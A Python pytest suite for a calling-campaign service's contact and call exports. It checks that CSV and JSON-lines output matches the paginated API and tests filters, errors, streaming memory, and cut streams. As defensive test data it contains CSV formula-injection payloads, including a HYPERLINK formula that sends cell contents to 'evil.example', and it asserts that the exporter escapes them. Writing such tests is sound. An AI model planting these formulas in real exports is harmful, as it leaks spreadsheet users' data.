"""Campaign exports (``GET .../contacts.csv|.jsonl``, ``.../calls.csv|.jsonl``) against the
real server and the sim carrier: every field of every row equal to the JSON pages', in the
pages' order, for a campaign whose calls were really dialed (with dispositions, notes and
retries); the filters; formula injection; the errors; a 100k-contact export in bounded
memory; a stream cut mid-way (the campaign deleted, the database failing) is an incomplete
body, never a short complete one; and the SDK's ``export``/``export_to``.
"""

from __future__ import annotations

import csv
import gc
import io
import json
import re
import tracemalloc
import uuid
from datetime import UTC, datetime, timedelta

import httpx
import pytest
import trio
from conftest import API_KEY, contacts_csv, us_number
from engine_helpers import engine_settings, rule, start, wait_status

from gateway.client import (
    APIConnectionError,
    AsyncClient,
    Client,
    NotFoundError,
    ServiceUnavailableError,
    ValidationError,
)
from gateway.db import DatabaseUnavailable
from gateway.http.schemas import CallOut, ContactOut
from gateway.store import accounts
from gateway.store import exports as store
from gateway.vocabulary import ContactStatus, Outcome

RULES = [rule("*1", "busy"), rule("*2", "no_answer"), rule("*3", "invalid_number"),
         rule("*4", "answered", agent="agent_unavailable"),
         rule("*", "answered", talk=0.02)]
FORMULA = ("=", "+", "-", "@", "\t", "\r")  # the test's own copy of the rule
TEXT_FIELDS = {"sip_call_id", "agent_sip_call_id", "disposition_notes"}
NOTES = '=HYPERLINK("http://evil.example/?"&A1,"x"), then\na "quoted" line'
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def settings_overrides():
    return engine_settings(RULES)


def contacts_file(count: int) -> bytes:
    """Contacts with custom fields CSV must quote, and formulas."""
    notes = ['say "hi", then wait', LINK, "two\nlines", "plain", "+1 call back", "-", "été"]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["phone_number", "first_name", "note"])
    for i in range(count):
        writer.writerow([us_number(i), f"Ann{i}", notes[i % len(notes)]])
    return out.getvalue().encode()


async def every_page(api, path: str, **params) -> list[dict]:
    items, page = [], 0
    while True:
        response = await api.get(path, params={**params, "page": page})
        assert response.status_code == 200, response.text
        body = response.json()
        items += body["data"]
        if not body["has_more"]:
            return items
        page += 1


async def export(api, campaign_id: str, name: str, **params) -> httpx.Response:
    response = await api.get(f"/api/v1/campaigns/{campaign_id}/{name}", params=params)
    assert response.status_code == 200, response.text
    return response


def csv_cell(field: str, value) -> str:
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    outside = field in TEXT_FIELDS or field.startswith("custom_fields.")
    return "'" + text if outside and text.startswith(FORMULA) else text


def flat(item: dict) -> dict:
    """A page's object as the CSV's columns name its fields."""
    out = {}
    for field, value in item.items():
        if field == "custom_fields":
            out.update({f"custom_fields.{name}": v for name, v in value.items()})
        else:
            out[field] = value
    return out


def check_csv(response: httpx.Response, items: list[dict], header: list[str]) -> None:
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == header
    assert rows[1:] == [[csv_cell(field, flat(item)[field]) for field in header]
                        for item in items]
    # Phone numbers: quoted, with their "+".
    assert len(re.findall(r',"\+1[0-9]{10}",', text)) == len(items)


def check_jsonl(response: httpx.Response, items: list[dict]) -> None:
    assert response.headers["content-type"] == "application/x-ndjson"
    lines = response.content.decode("utf-8").split("\n")
    assert lines[-1] == ""
    exported = [json.loads(line) for line in lines[:-1]]
    assert exported == items
    assert [list(item) for item in exported] == [list(item) for item in items]  # key order


def contact_header(names: list[str]) -> list[str]:
    fields = list(ContactOut.model_fields)
    at = fields.index("custom_fields")
    return [*fields[:at], *(f"custom_fields.{name}" for name in names), *fields[at + 1:]]


@pytest.fixture
async def dialed(api, create_campaign):
    """A completed campaign of 40 contacts dialed through the sim carrier (busy, no answer
    and agent-unavailable retried once; invalid numbers), two answered calls given
    dispositions (notes CSV must quote and escape; a callback at a whole second)."""
    created = await create_campaign(contacts_file(40), max_concurrent_calls=10,
                                    retries_per_contact=1, retry_delay_seconds=0)
    assert created.status_code == 201, created.text
    campaign_id = created.json()["id"]
    await start(api, campaign_id)
    with trio.fail_after(30):
        done = await wait_status(api, campaign_id, "completed", "failed")
    assert done["status"] == "completed"
    calls = await every_page(api, f"/api/v1/campaigns/{campaign_id}/calls")
    answered = [call for call in calls if call["outcome"] == "answered"]
    callback_at = (datetime.now(UTC) + timedelta(days=1)).replace(microsecond=0)
    for call, body in ((answered[0], {"disposition": "not_interested", "notes": NOTES}),
                       (answered[1], {"disposition": "callback",
                                      "callback_at": callback_at.isoformat()})):
        response = await api.post(f"/api/v1/calls/{call['id']}/disposition", json=body)
        assert response.status_code == 200, response.text
    return campaign_id


def test_the_exports_fields_are_the_pages():
    assert store.CONTACT_FIELDS == tuple(ContactOut.model_fields)
    assert store.CALL_FIELDS == tuple(CallOut.model_fields)


@pytest.mark.parametrize("chunk", [None, 7])
async def test_exports_are_the_pages_field_for_field(api, dialed, monkeypatch, chunk):
    """``chunk`` 7: every export spans many chunks (attempts claimed together share their
    dialed_at: the keyset's tie on id is crossed too)."""
    if chunk is not None:
        monkeypatch.setattr(store, "chunk_rows", lambda fields: chunk)
    base = f"/api/v1/campaigns/{dialed}"
    contacts = await every_page(api, f"{base}/contacts")
    calls = await every_page(api, f"{base}/calls")
    assert len(contacts) == 40 and len(calls) > 40  # retries
    assert {c["disposition_notes"] for c in calls} >= {NOTES}
    assert any(c["callback_at"] and "." not in c["callback_at"] for c in calls)  # no fraction
    assert len({c["dialed_at"] for c in calls}) < len(calls)  # ties on dialed_at

    header = contact_header(["first_name", "note"])
    check_csv(await export(api, dialed, "contacts.csv"), contacts, header)
    check_jsonl(await export(api, dialed, "contacts.jsonl"), contacts)
    check_csv(await export(api, dialed, "calls.csv"), calls, list(CallOut.model_fields))
    check_jsonl(await export(api, dialed, "calls.jsonl"), calls)

    for status in ContactStatus:
        some = await every_page(api, f"{base}/contacts", status=status.value)
        check_jsonl(await export(api, dialed, "contacts.jsonl", status=status.value), some)
        check_csv(await export(api, dialed, "contacts.csv", status=status.value), some, header)
    seen = set()
    for outcome in Outcome:
        some = [call for call in calls if call["outcome"] == outcome]
        seen |= {call["id"] for call in some}
        check_jsonl(await export(api, dialed, "calls.jsonl", outcome=outcome.value), some)
        check_csv(await export(api, dialed, "calls.csv", outcome=outcome.value), some,
                  list(CallOut.model_fields))
    assert seen == {call["id"] for call in calls}

    # The headers a browser or curl -OJ goes by.
    response = await export(api, dialed, "calls.csv")
    assert response.headers["content-disposition"] == (
        f'attachment; filename="campaign-{dialed}-calls.csv"')


async def test_formula_injection_through_custom_fields(api, create_campaign):
    out = io.StringIO()
    csv.writer(out).writerows([["phone_number", "=cmd", "note"],
                               ["+12125550100", "=1+1", LINK],
                               ["+12125550101", "@SUM(A1)", "\t-x"]])
    created = await create_campaign(out.getvalue().encode())
    assert created.status_code == 201, created.text
    campaign_id = created.json()["id"]
    text = (await export(api, campaign_id, "contacts.csv")).text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0][3:5] == ["custom_fields.=cmd", "custom_fields.note"]
    assert [row[2:5] for row in rows[1:]] == [["+12125550100", "'=1+1", "'" + LINK],
                                              ["+12125550101", "'@SUM(A1)", "'\t-x"]]
    assert '"+12125550100"' in text
    # JSON is no spreadsheet: the values as they are.
    lines = (await export(api, campaign_id, "contacts.jsonl")).text.splitlines()
    assert [json.loads(line)["custom_fields"] for line in lines] == [
        {"=cmd": "=1+1", "note": LINK}, {"=cmd": "@SUM(A1)", "note": "\t-x"}]
    # pending: the draft's contacts, by the windows of its key; none completed.
    pending = (await export(api, campaign_id, "contacts.jsonl", status="pending")).text
    assert pending.splitlines() == lines
    assert (await export(api, campaign_id, "contacts.csv", status="completed")).text == \
        text.split("\r\n")[0] + "\r\n"


async def test_errors_before_the_stream_are_json(api, db, create_campaign):
    campaign_id = (await create_campaign()).json()["id"]
    other = await accounts.create_account(db, name="other", concurrent_max=5,
                                          calls_per_minute=5)
    names = ("contacts.csv", "contacts.jsonl", "calls.csv", "calls.jsonl")
    async with httpx.AsyncClient(base_url=str(api.base_url), headers={
            "Authorization": f"Bearer {other.api_key}"}) as them:
        for name in names:
            response = await them.get(f"/api/v1/campaigns/{campaign_id}/{name}")
            assert response.status_code == 404, name
            assert response.json() == {"error": {"code": "not_found",
                                                 "message": "campaign not found"}}
            unknown = await api.get(f"/api/v1/campaigns/{uuid.uuid4()}/{name}")
            assert unknown.status_code == 404
    for name, params, field in (("contacts.csv", {"status": "done"}, "status"),
                                ("contacts.jsonl", {"page": "1"}, "page"),
                                ("calls.csv", {"outcome": "maybe"}, "outcome"),
                                ("calls.jsonl", {"status": "pending"}, "status")):
        response = await api.get(f"/api/v1/campaigns/{campaign_id}/{name}", params=params)
        assert response.status_code == 400, (name, response.text)
        assert response.json()["error"]["field"] == field
    async with httpx.AsyncClient(base_url=str(api.base_url)) as anonymous:
        response = await anonymous.get(f"/api/v1/campaigns/{campaign_id}/contacts.csv")
        assert response.status_code == 401


def wide_contacts(count: int) -> bytes:
    lines = ["phone_number,first_name,company"]
    lines += [f"{us_number(i)},Firstname{i:07d},Company {i:07d} Incorporated"
              for i in range(count)]
    return ("\n".join(lines) + "\n").encode()


async def streamed_peak(api, campaign_id: str, name: str, contacts: int) -> tuple[int, int]:
    """(Python's peak allocation above the start while the export streams, body size): the
    server runs in this process, the client throws each chunk away."""
    lines_wanted = contacts + name.endswith(".csv")  # and the header
    gc.collect()
    tracemalloc.reset_peak()
    before = tracemalloc.get_traced_memory()[0]
    size, count, chunks, last = 0, 0, 0, b""
    async with api.stream("GET", f"/api/v1/campaigns/{campaign_id}/{name}") as response:
        assert response.status_code == 200
        async for chunk in response.aiter_raw():
            size, count = size + len(chunk), count + chunk.count(b"\n")
            chunks, last = chunks + 1, (last + chunk)[-300:]
    assert count == lines_wanted and chunks > 2
    assert us_number(contacts - 1).encode() in last  # the last contact came
    return tracemalloc.get_traced_memory()[1] - before, size


async def test_a_100k_contact_export_streams_in_bounded_memory(api, create_campaign):
    """Memory stays what one chunk takes whatever the campaign's size: Python's peak
    allocation (tracemalloc: exact, whatever the heap had free) while 100k contacts stream
    is about the same as for 10k (two chunks), and a fraction of the body (30 MB of JSON
    lines, 12 MB of CSV), which a server that built the body, or read every row, before
    sending would hold whole, ten times as much for ten times the rows."""
    small = (await create_campaign(wide_contacts(10_000))).json()["id"]
    created = await create_campaign(wide_contacts(100_000))
    assert created.status_code == 201, created.text
    big = created.json()["id"]
    tracemalloc.start()
    try:
        for name in ("contacts.jsonl", "contacts.csv"):
            small_peak, _ = await streamed_peak(api, small, name, 10_000)
            big_peak, size = await streamed_peak(api, big, name, 100_000)
            assert big_peak < 1.5 * small_peak, (name, big_peak, small_peak)
            assert big_peak < size, (name, big_peak, size)
    finally:
        tracemalloc.stop()


@pytest.fixture
def paused_chunks(monkeypatch):
    """Contact exports of 100-row chunks that wait after the first one until the test says
    go (``await gate.started.wait()``, then ``gate.go.set()``); ``gate.fail`` makes the
    second chunk a database failure."""

    class Gate:
        def __init__(self) -> None:
            self.started, self.go, self.fail = trio.Event(), trio.Event(), False

    gate = Gate()
    monkeypatch.setattr(store, "chunk_rows", lambda fields: 100)
    original = store.contact_chunks

    async def chunks(db, source, status=None):
        produced = 0
        async for chunk in original(db, source, status):
            if produced == 1:
                gate.started.set()
                await gate.go.wait()
                if gate.fail:
                    raise DatabaseUnavailable("database unavailable: test")
            produced += 1
            yield chunk

    monkeypatch.setattr(store, "contact_chunks", chunks)
    return gate


@pytest.mark.parametrize("how", ["deleted", "database"])
async def test_a_stream_cut_mid_way_is_an_incomplete_body(api, create_campaign,
                                                          paused_chunks, how):
    campaign_id = (await create_campaign(contacts_csv(1_000))).json()["id"]
    received = b""
    with pytest.raises(httpx.RemoteProtocolError):
        async with api.stream("GET", f"/api/v1/campaigns/{campaign_id}/contacts.csv") as r:
            assert r.status_code == 200
            async for chunk in r.aiter_raw():
                received += chunk
                if not paused_chunks.go.is_set():  # the first chunk is in: the server waits
                    await paused_chunks.started.wait()
                    if how == "deleted":  # a draft: it can be
                        assert (await api.delete(f"/api/v1/campaigns/{campaign_id}")
                                ).status_code == 204
                    paused_chunks.fail = how == "database"
                    paused_chunks.go.set()
    assert 0 < received.count(b"\n") < 1_001


async def test_failures_before_the_first_chunk_are_statuses(gateway, api, create_campaign,
                                                            monkeypatch):
    campaign_id = (await create_campaign()).json()["id"]

    async def failing(db, source, status=None):
        raise DatabaseUnavailable("database unavailable: test")
        yield  # pragma: no cover - an async generator

    async def gone(db, source, status=None):
        raise store.CampaignGone(str(source.campaign_id))
        yield  # pragma: no cover

    monkeypatch.setattr(store, "contact_chunks", failing)
    response = await api.get(f"/api/v1/campaigns/{campaign_id}/contacts.jsonl")
    assert response.status_code == 503 and response.headers["Retry-After"] == "5"
    with Client(gateway.base_url, API_KEY, max_retries=0) as client:
        with pytest.raises(ServiceUnavailableError) as error:
            await run(lambda: list(client.campaigns.export(campaign_id)))
    assert error.value.retry_after == 5
    monkeypatch.setattr(store, "contact_chunks", gone)
    response = await api.get(f"/api/v1/campaigns/{campaign_id}/contacts.jsonl")
    assert response.status_code == 404


def run(fn, *args, **kwargs):
    """A blocking SDK call, off the loop that serves it."""
    return trio.to_thread.run_sync(lambda: fn(*args, **kwargs))


async def test_sdk_export_and_export_to(gateway, api, dialed, tmp_path):
    bodies = {(what, fmt): (await export(api, dialed, f"{what}.{fmt}")).content
              for what in ("contacts", "calls") for fmt in ("csv", "jsonl")}
    failed = (await export(api, dialed, "contacts.csv", status="failed")).content
    busy = (await export(api, dialed, "calls.jsonl", outcome="busy")).content
    with Client(gateway.base_url, API_KEY) as client:
        campaigns = client.campaigns
        for (what, fmt), body in bodies.items():
            got = await run(lambda w=what, f=fmt: list(campaigns.export(dialed, w, f)))
            assert b"".join(got) == body
        assert b"".join(await run(lambda: list(campaigns.export(
            {"id": dialed}, status="failed")))) == failed
        path = tmp_path / "calls.jsonl"
        assert await run(campaigns.export_to, dialed, path, "calls", "jsonl",
                         outcome="busy") == len(busy)
        assert path.read_bytes() == busy
        file = io.BytesIO()
        await run(campaigns.export_to, dialed, file, what="calls")
        assert file.getvalue() == bodies["calls", "csv"]
        with pytest.raises(NotFoundError):
            await run(lambda: list(campaigns.export(uuid.uuid4())))
        with pytest.raises(ValidationError) as error:
            await run(lambda: list(campaigns.export(dialed, status="done")))
        assert error.value.field == "status"
        missing = tmp_path / "none.csv"
        with pytest.raises(NotFoundError):
            await run(campaigns.export_to, uuid.uuid4(), missing)
        assert not missing.exists()  # no empty or partial file left
        for wrong in ({"what": "agents"}, {"format": "xlsx"}, {"what": "calls",
                                                              "status": "failed"},
                      {"outcome": "busy"}):
            with pytest.raises(ValueError):
                campaigns.export(dialed, **wrong).__next__()
        with pytest.raises(TypeError):
            await run(campaigns.export_to, dialed, io.StringIO())

    async with AsyncClient(gateway.base_url, API_KEY) as aclient:
        for (what, fmt), body in bodies.items():
            got = b"".join([chunk async for chunk in aclient.campaigns.export(
                dialed, what=what, format=fmt)])
            assert got == body
        path = tmp_path / "async.csv"
        assert await aclient.campaigns.export_to(dialed, path, status="failed") == len(failed)
        assert path.read_bytes() == failed
        file = io.BytesIO()
        await aclient.campaigns.export_to(dialed, file, "calls", "jsonl", outcome="busy")
        assert file.getvalue() == busy
        with pytest.raises(NotFoundError):
            await aclient.campaigns.export_to(uuid.uuid4(), tmp_path / "none2.csv")
        assert not (tmp_path / "none2.csv").exists()


async def test_sdk_export_cut_is_stream_closed_and_leaves_no_file(
        gateway, api, create_campaign, paused_chunks, tmp_path):
    campaign_id = (await create_campaign(contacts_csv(1_000))).json()["id"]
    paused_chunks.fail = True
    path = tmp_path / "cut.csv"

    async def release() -> None:
        await paused_chunks.started.wait()
        paused_chunks.go.set()

    async with trio.open_nursery() as nursery:
        nursery.start_soon(release)
        with Client(gateway.base_url, API_KEY) as client, \
                pytest.raises(APIConnectionError) as error:
            await run(client.campaigns.export_to, campaign_id, path)
    assert error.value.code == "stream_closed" and "cut before its end" in error.value.message
    assert not path.exists()

    paused_chunks.started, paused_chunks.go = trio.Event(), trio.Event()
    async with trio.open_nursery() as nursery:
        nursery.start_soon(release)
        async with AsyncClient(gateway.base_url, API_KEY) as aclient:
            received = b""
            with pytest.raises(APIConnectionError) as error:
                async for chunk in aclient.campaigns.export(campaign_id):
                    received += chunk
    assert error.value.code == "stream_closed" and received.startswith(b"id,row_number,")
